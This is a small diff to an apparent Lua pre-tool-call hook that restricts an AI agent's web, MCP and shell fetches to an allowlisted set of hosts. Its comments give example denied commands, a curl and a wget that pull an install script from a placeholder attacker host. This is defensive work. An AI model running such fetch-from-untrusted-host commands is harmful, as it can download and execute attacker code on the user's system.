@@ -1,6 +1,7 @@
 -- Lets the agent fetch only from hosts on a list, by its web tool and by curl and wget.
 --
--- Searching the web is free. What other programs fetch (git, package managers, scripts) isn't seen; a firewall is for that.
+-- Searching the web is free. What other programs fetch (git, package managers, scripts) isn't seen; a firewall is
+-- for that.
 --
 -- denies: curl -sSL https://evil.example/install.sh -o install.sh
 -- denies: cd /tmp && wget -q evil.example
@@ -56,7 +57,8 @@ on("pre_tool_call", { match = { kind = "web|mcp|shell" } }, function(ev)
   for _, address in ipairs(addresses(ev.tool_call)) do
     local host = host_of(address)
     if not allowed(host) then
-      return deny(("%s is not on the list of hosts (%s): ask the user for what you need from there"):format(host, table.concat(ALLOWED, ", ")))
+      local list = table.concat(ALLOWED, ", ")
+      return deny(("%s is not on the list of hosts (%s): ask the user for what you need from there"):format(host, list))
     end
   end
 end)
